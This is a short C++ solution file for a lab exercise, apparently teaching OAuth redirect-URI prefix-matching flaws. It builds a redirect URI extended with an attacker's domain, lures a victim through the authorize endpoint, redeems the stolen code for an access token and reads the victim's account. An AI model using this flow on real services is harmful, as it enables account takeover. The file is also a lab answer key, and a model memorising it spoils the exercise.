// Solution lab 7f · A longer address
#include "redirect_prefix.hpp"

#include "base/percent_encoding.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto trap = evidence.redirect_uri + "." + evidence.your_domain + "/";
  const auto caught = evidence.lure(
      evidence.authorize + "?" +
      base::encode_form(
          {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));

  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
                                       {"client_id", evidence.client_id},
                                       {"redirect_uri", trap},
                                       {"code", parameter(caught, "code")}});
  return {.account = evidence.show_me(answer.json().text("access_token").value_or("")).body};
}

}  // namespace lesson
